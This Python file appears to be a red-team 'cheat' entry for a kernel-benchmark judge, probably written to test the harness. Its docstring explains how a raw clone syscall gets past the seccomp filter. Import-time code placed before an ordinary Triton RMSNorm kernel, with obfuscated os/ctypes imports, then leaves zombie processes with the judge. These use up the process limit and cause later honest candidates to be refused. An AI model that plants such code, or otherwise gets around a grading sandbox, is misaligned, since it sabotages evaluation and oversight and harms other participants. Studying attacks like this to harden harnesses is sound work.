"""Cheat (round 32): zombies left with the judge (a copy of the baseline, honest in every call).

``clone(CLONE_PARENT)`` makes a child whose parent is the caller's parent: for a candidate's worker, the judge. The
seccomp filter (runners/syscalls.py) reads only ``CLONE_NEW*`` in a clone's flags, so it is allowed. At import this
worker makes ZOMBIES such children, each of which exits at once: they are the judge's children, which the judge never
waits for, so each stays a zombie of the candidate's user for the judge's whole life. ``Isolation.kill_leftovers``
cannot end a zombie (it is dead already); the uid is used again for a later candidate (two uids in turn), whose held
stop (runners/armed.py ``could_slow``, through ``stopped.cpu_times(pgid, uid)``, which lists every process of the
user) then counts them as its processes and refuses it ("it has N processes"), and whose ``RLIMIT_NPROC``
(runners/processes.py, 4 * MAX_THREADS) the zombies use up. A hostile candidate sinks the honest ones after it.

ZOMBIES: how many children to leave with the judge."""
import torch
import triton
import triton.language as tl

from .utils import as_rows, get_num_warps, next_power_of_2

_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
_os, _ctypes = (_imp(m) for m in ("os", "ctypes"))

ZOMBIES = int("@ZOMBIES@")
_CLONE_PARENT, _SIGCHLD, _NR_CLONE = 0x8000, 17, 56  # x86_64


def _leave_zombies(n):
    libc = _ctypes.CDLL(None, use_errno=True)
    for _ in range(n):
        pid = libc.syscall(_NR_CLONE, _CLONE_PARENT | _SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            _os._exit(0)  # a child of the judge: a zombie until the judge waits for it, which it never does
        if pid < 0:
            break


_leave_zombies(ZOMBIES)


@triton.jit
def _rms_norm_kernel(x_ptr, residual_ptr, weight_ptr, out_ptr, residual_out_ptr, stride_x_row, stride_residual_row,
                     stride_out_row, stride_residual_out_row, N, eps, HAS_RESIDUAL: tl.constexpr,
                     BLOCK_N: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offs = tl.arange(0, BLOCK_N)
    mask = offs < N
    x = tl.load(x_ptr + row * stride_x_row + offs, mask=mask, other=0.0).to(tl.float32)
    if HAS_RESIDUAL:
        res = tl.load(residual_ptr + row * stride_residual_row + offs, mask=mask, other=0.0)
        x = x + res.to(tl.float32)
        tl.store(residual_out_ptr + row * stride_residual_out_row + offs, x.to(residual_out_ptr.dtype.element_ty),
                 mask=mask)
    variance = tl.sum(x * x, axis=0) / N
    rstd = tl.rsqrt(variance + eps)
    w = tl.load(weight_ptr + offs, mask=mask, other=0.0).to(tl.float32)
    tl.store(out_ptr + row * stride_out_row + offs, (x * rstd * w).to(out_ptr.dtype.element_ty), mask=mask)


def rms_norm(hidden_states, weight, eps=1e-6, residual=None):
    shape = hidden_states.shape
    hidden = shape[-1]
    x = as_rows(hidden_states)
    out = torch.empty((x.shape[0], hidden), dtype=hidden_states.dtype, device=hidden_states.device)
    has_residual = residual is not None
    res = as_rows(residual) if has_residual else x
    res_out = torch.empty_like(out) if has_residual else out
    block_n = next_power_of_2(hidden)
    _rms_norm_kernel[(x.shape[0],)](x, res, weight, out, res_out, x.stride(0), res.stride(0), out.stride(0),
                                    res_out.stride(0), hidden, eps, HAS_RESIDUAL=has_residual, BLOCK_N=block_n,
                                    num_warps=get_num_warps(block_n), num_stages=1)
    out = out.view(shape)
    return (out, res_out.view(shape)) if has_residual else out
